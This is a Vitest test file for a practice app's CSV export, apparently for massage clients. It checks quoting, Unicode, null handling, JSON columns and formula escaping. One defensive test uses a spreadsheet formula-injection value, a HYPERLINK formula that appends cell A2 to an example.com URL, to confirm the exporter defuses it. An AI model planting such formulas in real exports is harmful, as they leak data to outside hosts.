import { describe, expect, it } from 'vitest';
import { openTestApi } from '../testing/api';
import { exportCsv } from './csv';
import { exportAll, exportClient } from './export';
import { COLUMNS, TABLE_NAMES } from './format';
import { makeClientRecord, setUpPractice } from './testing';

const BOM = '\uFEFF';

/**
 * A strict RFC 4180 reader for the tests, written apart from the writer: rows end with CRLF,
 * quoted fields may hold anything with quotes doubled. A field written as nothing reads as null,
 * one written as "" as the empty text.
 */
function parseCsv(text: string): (string | null)[][] {
  const rows: (string | null)[][] = [];
  let row: (string | null)[] = [];
  let i = 0;
  while (i < text.length) {
    let field: string | null;
    if (text[i] === '"') {
      field = '';
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('a quoted field never ends');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      const raw = end < 0 ? text.slice(i) : text.slice(i, i + end);
      if (/["\r\n]/.test(raw)) throw new Error(`an unquoted field holds a quote or line break: ${raw}`);
      field = raw === '' ? null : raw;
      i += raw.length;
    }
    row.push(field);
    if (text.startsWith(',', i)) {
      i++;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`unexpected text after a field at ${i}`);
    }
  }
  if (row.length > 0) throw new Error('the last row does not end with CRLF');
  return rows;
}

/** The table's rows as objects keyed by the header row. */
function readTable(csv: string): Record<string, string | null>[] {
  expect(csv.startsWith(BOM)).toBe(true);
  const [header, ...rows] = parseCsv(csv.slice(BOM.length));
  if (!header) throw new Error('no header row');
  return rows.map((cells) => Object.fromEntries(header.map((name, i) => [name ?? '', cells[i] ?? null])));
}

function practice() {
  const api = openTestApi();
  setUpPractice(api);
  return { ...api, maya: makeClientRecord(api) };
}

describe('the CSV form of an export', () => {
  it('has one text per table, each with a BOM and the columns as its header row', () => {
    const { db, maya } = practice();
    const csv = exportCsv(exportClient(db, maya.client.id));
    expect([...csv.keys()]).toEqual(TABLE_NAMES);
    for (const table of TABLE_NAMES) {
      const text = csv.get(table) ?? '';
      expect(text.startsWith(BOM), table).toBe(true);
      expect(parseCsv(text.slice(1))[0], table).toEqual(COLUMNS[table]);
    }
    // A client's export has no settings: the header alone.
    expect(csv.get('settings')).toBe(`${BOM}key,value,updated_at\r\n`);
  });

  it('keeps commas, quotes, line breaks, accents, emoji and right-to-left text whole', () => {
    const { db, call } = practice();
    // One difficulty per field, so each must be quoted for its own reason.
    const tricky = {
      givenName: 'Zoë "Zo"',
      familyName: 'בן־דוד',
      address: 'Apt 🏠 4\nBuilding B',
      healthHistory: 'One\r\nTwo\rThree',
      contraindications: 'Blood thinners, light pressure 👍🏽',
    };
    const client = call('clients.create', { ...tricky, phone: '555 0100' });
    const data = exportClient(db, client.id);
    const [row] = readTable(exportCsv(data).get('clients') ?? '');
    expect(row).toMatchObject({
      id: client.id,
      given_name: tricky.givenName,
      family_name: tricky.familyName,
      address: tricky.address,
      health_history: tricky.healthHistory,
      contraindications: tricky.contraindications,
      phone: '555 0100',
      archived: '0',
    });
  });

  it('tells an empty text from a missing value', () => {
    const { db, maya } = practice();
    const [row] = readTable(exportCsv(exportClient(db, maya.client.id)).get('marks') ?? '');
    expect(row).toMatchObject({ note: '', deleted_at: null, pressure: null, tenderness: '7', x: '0.62' });
  });

  it('writes JSON columns as their JSON text', () => {
    const { db, maya } = practice();
    const data = exportClient(db, maya.client.id);
    const sessions = readTable(exportCsv(data).get('sessions') ?? '');
    expect(sessions.map((s) => JSON.parse(s.red_flags ?? 'null') as unknown)).toEqual(
      data.tables.sessions.map((s) => s.red_flags),
    );
    expect(JSON.parse(sessions[0]?.signed_record ?? 'null')).toEqual(data.tables.sessions[0]?.signed_record);
    const [zone] = readTable(exportCsv(data).get('referral_zones') ?? '');
    expect(JSON.parse(zone?.points ?? 'null')).toEqual(maya.zone.points);
  });

  it('puts a quote mark before text a spreadsheet would run as a formula', () => {
    const { db, call } = practice();
    const client = call('clients.create', {
      givenName: '=HYPERLINK("https://example.com/?"&A2,"Open")',
      familyName: '@SUM(1+1)',
      phone: '+1 555 0100',
      healthHistory: '-2 since last week',
      contraindications: 'None = fine',
    });
    const [row] = readTable(exportCsv(exportClient(db, client.id)).get('clients') ?? '');
    expect(row).toMatchObject({
      given_name: `'=HYPERLINK("https://example.com/?"&A2,"Open")`,
      family_name: "'@SUM(1+1)",
      phone: "'+1 555 0100",
      health_history: "'-2 since last week",
      contraindications: 'None = fine',
    });
  });

  it('covers every table of an export of everything', () => {
    const { db } = practice();
    const data = exportAll(db);
    const csv = exportCsv(data);
    for (const table of TABLE_NAMES) {
      expect(readTable(csv.get(table) ?? ''), table).toHaveLength(data.tables[table]?.length ?? -1);
    }
  });
});
